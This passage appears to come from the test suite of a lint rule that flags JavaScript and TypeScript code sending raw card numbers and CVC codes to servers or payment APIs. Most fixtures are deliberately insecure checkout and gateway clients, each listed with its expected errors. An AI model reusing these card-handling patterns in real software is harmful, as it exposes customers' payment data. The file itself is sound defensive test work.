      // Methods written as one object literal on the prototype, one calling the other on the instance
      code: `function Gateway(baseUrl: string) {
  this.baseUrl = baseUrl;
}
Gateway.prototype = {
  request: function (path: string, body: unknown) {
    return fetch(this.baseUrl + path, { method: 'POST', body: JSON.stringify(body) });
  },
  charge: function (card: { number: string; cvv: string }) {
    return this.request('/charges', { number: card.number, cvv: card.cvv, amount: 100 });
  },
};
`,
      filename: 'src/gateways.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST a URL computed at run time', what: 'card number (PAN)', field: 'number' }, line: 9, column: 39, endLine: 9, endColumn: 45 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST a URL computed at run time', what: 'card security code (CVC)', field: 'cvv' }, line: 9, column: 60, endLine: 9, endColumn: 63 },
      ],
    },
    {
      // A Vue 2 component's methods: the submit handler hands the card to the method beside it that posts it
      code: `import axios from 'axios';

export default {
  data() {
    return { cardNumber: '', expiry: '', cvc: '', paying: false };
  },
  methods: {
    async submit() {
      this.paying = true;
      try {
        await this.charge({ number: this.cardNumber.replace(/\\s/g, ''), expiry: this.expiry, cvc: this.cvc });
        this.$router.push('/thanks');
      } finally {
        this.paying = false;
      }
    },
    charge(card) {
      return axios.post('/api/orders/pay', { card, orderId: this.$route.params.id });
    },
  },
};
`,
      filename: 'src/components/CheckoutForm.js',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/orders/pay', what: 'card number (PAN)', field: 'card.number' }, line: 11, column: 29, endLine: 11, endColumn: 35 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/orders/pay', what: 'card security code (CVC)', field: 'card.cvc' }, line: 11, column: 94, endLine: 11, endColumn: 97 },
      ],
    },
    {
      // A helper that reads its options object's members (\`opts.body\`): each caller's \`body\`
      code: `
export class AsaasClient {
  constructor(private readonly baseUrl = 'https://api.asaas.com/v3') {}

  private async request(opts: { method: string; path: string; body?: unknown }) {
    const res = await fetch(this.baseUrl + opts.path, { method: opts.method, body: JSON.stringify(opts.body) });
    return res.json();
  }

  tokenize(card: { number: string; ccv: string }) {
    return this.request({ method: 'POST', path: '/creditCard/tokenizeCreditCard', body: { creditCard: { number: card.number, ccv: card.ccv } } });
  }
}
`,
      filename: 'src/gateways.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', what: 'card number (PAN)', field: 'creditCard.number' }, line: 11, column: 105, endLine: 11, endColumn: 111 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', what: 'card security code (CVC)', field: 'creditCard.ccv' }, line: 11, column: 126, endLine: 11, endColumn: 129 },
      ],
    },
    {
      // A form body built up with \`+=\` and written to Node's https request to Stripe
      code: `const https = require('https');

function createToken(card, callback) {
  let form = 'card[number]=' + encodeURIComponent(card.number);
  form += '&card[exp_month]=' + card.expMonth + '&card[exp_year]=' + card.expYear;
  if (card.cvc) form += '&card[cvc]=' + encodeURIComponent(card.cvc);

  const req = https.request(
    {
      hostname: 'api.stripe.com',
      path: '/v1/tokens',
      method: 'POST',
      headers: { Authorization: 'Bearer ' + process.env.STRIPE_SECRET_KEY, 'Content-Type': 'application/x-www-form-urlencoded' },
    },
    (res) => {
      let raw = '';
      res.on('data', (chunk) => (raw += chunk));
      res.on('end', () => callback(null, JSON.parse(raw)));
    },
  );
  req.on('error', callback);
  req.write(form);
  req.end();
}

module.exports = { createToken };
`,
      filename: 'lib/stripe-token.js',
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'Node http', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 4, column: 14, endLine: 4, endColumn: 63 },
        { messageId: 'rawCardOverHttp', data: { client: 'Node http', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' }, line: 6, column: 25, endLine: 6, endColumn: 69 },
      ],
    },
    {
      // The request library's post, promisified with Node's util
      code: `const { promisify } = require('util');
const request = require('request');

const post = promisify(request.post);

async function createCardToken(card) {
  const res = await post({
    url: 'https://api.stripe.com/v1/tokens',
    auth: { bearer: process.env.STRIPE_SECRET_KEY },
    form: { card: { number: card.number, exp_month: card.expMonth, exp_year: card.expYear, cvc: card.cvc } },
  });
  return JSON.parse(res.body).id;
}

module.exports = { createCardToken };
`,
      filename: 'lib/stripe.js',
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'request-library', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 10, column: 21, endLine: 10, endColumn: 27 },
        { messageId: 'rawCardOverHttp', data: { client: 'request-library', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' }, line: 10, column: 92, endLine: 10, endColumn: 95 },
      ],
    },
    {
      // An axios instance handed to the class, typed by axios' \`AxiosInstance\`
      code: `import type { AxiosInstance } from 'axios';

export interface CardInput {
  number: string;
  expMonth: number;
  expYear: number;
  cvc: string;
}

export class BillingClient {
  constructor(private readonly http: AxiosInstance) {}

  async addCard(customerId: string, card: CardInput) {
    const { data } = await this.http.post(\`/customers/\${customerId}/cards\`, {
      card_number: card.number,
      exp: \`\${card.expMonth}/\${card.expYear}\`,
      security_code: card.cvc,
    });
    return data as { id: string; last4: string };
  }
}
`,
      filename: 'src/billing/client.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /customers/…/cards', what: 'card number (PAN)', field: 'card_number' }, line: 15, column: 7, endLine: 15, endColumn: 18 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /customers/…/cards', what: 'card security code (CVC)', field: 'security_code' }, line: 17, column: 7, endLine: 17, endColumn: 20 },
      ],
    },
    {
      // Values typed by what a zod schema infers (\`z.infer<typeof checkoutSchema>\`), posted whole
      code: `import { z } from 'zod';

export const checkoutSchema = z.object({
  name: z.string().min(1),
  cardNumber: z.string().regex(/^\\d{13,19}$/),
  expiry: z.string().regex(/^\\d{2}\\/\\d{2}$/),
  cvc: z.string().regex(/^\\d{3,4}$/),
});

export type CheckoutValues = z.infer<typeof checkoutSchema>;

export async function submitCheckout(values: CheckoutValues, orderId: string) {
  const res = await fetch(\`/api/orders/\${orderId}/pay\`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(values),
  });
  if (!res.ok) throw new Error('Payment failed');
  return res.json();
}
`,
      filename: 'lib/checkout.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/orders/…/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 16, column: 26, endLine: 16, endColumn: 32 },
      ],
    },
    {
      // A typed SDK's helper that destructures one options object (real-world batch FT: an Asaas client)
      code: `export class AsaasClient {
  constructor(private readonly apiKey: string, private readonly baseUrl = 'https://api.asaas.com/v3') {}

  private async request<T>({ method, path, body }: { method: string; path: string; body?: unknown }): Promise<T> {
    const res = await fetch(this.baseUrl + path, { method, headers: { access_token: this.apiKey, 'Content-Type': 'application/json' }, body: body ? JSON.stringify(body) : undefined });
    return res.json() as Promise<T>;
  }

  tokenize(customer: string, card: { holderName: string; number: string; expiryMonth: string; expiryYear: string; ccv: string }) {
    return this.request<{ creditCardToken: string }>({
      method: 'POST',
      path: '/creditCard/tokenizeCreditCard',
      body: { customer, creditCard: { holderName: card.holderName, number: card.number, expiryMonth: card.expiryMonth, expiryYear: card.expiryYear, ccv: card.ccv } },
    });
  }
}
`,
      filename: 'src/asaas/client.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', what: 'card number (PAN)', field: 'creditCard.number' }, line: 13, column: 68, endLine: 13, endColumn: 74 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', what: 'card security code (CVC)', field: 'creditCard.ccv' }, line: 13, column: 149, endLine: 13, endColumn: 152 },
      ],
    },
    {
      // A shop's API client class (real-world batch FN): its methods send through its own request helper.
      code: `
export class CheckoutClient {
  private readonly baseUrl = 'https://shop.example.com/api';

  private async request<T>(path: string, options: RequestInit = {}): Promise<T> {
    const res = await fetch(\`\${this.baseUrl}\${path}\`, { headers: { 'Content-Type': 'application/json' }, ...options });
    if (!res.ok) throw new Error(\`Request failed: \${res.status}\`);
    return res.json() as Promise<T>;
  }

  async payWithCard(orderId: string, card: { number: string; cvc: string; expMonth: number; expYear: number }) {
    return this.request<{ status: string }>(\`/orders/\${orderId}/pay\`, {
      method: 'POST',
      body: JSON.stringify({ cardNumber: card.number, cvc: card.cvc, expMonth: card.expMonth, expYear: card.expYear }),
    });
  }

  async cancel(orderId: string) {
    return this.request(\`/orders/\${orderId}/cancel\`, { method: 'POST' });
  }
}
`,
      filename: 'src/api/checkout-client.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', what: 'card number (PAN)', field: 'cardNumber' }, line: 14, column: 30, endLine: 14, endColumn: 40 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', what: 'card security code (CVC)', field: 'cvc' }, line: 14, column: 55, endLine: 14, endColumn: 58 },
      ],
    },
    {
      // A private arrow field as the helper.
      code: `
import axios from 'axios';

export default class GatewayApi {
  #post = (path, data) => axios.post(\`https://api.gateway.example.com\${path}\`, data);

  authorize(cardNumber, cvv, amount) {
    return this.#post('/v2/authorize', { amount, card: { number: cardNumber, cvv } });
  }
}
`,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST https://api.gateway.example.com…', what: 'card number (PAN)', field: 'card.number' }, line: 8, column: 58, endLine: 8, endColumn: 64 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST https://api.gateway.example.com…', what: 'card security code (CVC)', field: 'card.cvv' }, line: 8, column: 78, endLine: 8, endColumn: 81 },
      ],
    },
  ],
});

ruleTester.run("no-raw-card-data: a parameter's default shape", rule, {
  valid: [
    {
      code: `// A card formatter's options are flags and callbacks named after the fields, and a reused parameter holds a token
import axios from 'axios';

export function formatCard(value, options = { number: true, cvc: false, onChange() {} }) {
  return axios.post('/api/format-preview', { value, options });
}

export function saveToken(card = { number: '', cvc: '' }) {
  card = { token: card.token, last4: card.last4 };
  return axios.post('/api/cards', card);
}
`,
      filename: 'src/api/cards.js',
    },
  ],
  invalid: [
    {
      code: `// A React Native wrapper of Culqi's token call (real-world batch 304): the card is the request's data, whole
import axios from 'axios';

const CULQI_TOKENS = 'https://secure.culqi.com/v2/tokens';

export const createToken = (publicKey, card = { card_number: '', cvv: '', expiration_month: '', expiration_year: '', email: '' }) =>
  axios.request({
    method: 'post',
    url: CULQI_TOKENS,
    headers: { Authorization: \`Bearer \${publicKey}\` },
    data: card,
  });
`,
      filename: 'src/api/culqi.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST secure.culqi.com/v2/tokens', field: 'card_number, cvv', what: 'card number (PAN) and card security code (CVC)' }, line: 11, column: 11, endLine: 11, endColumn: 15 },
      ],
    },
  ],
});
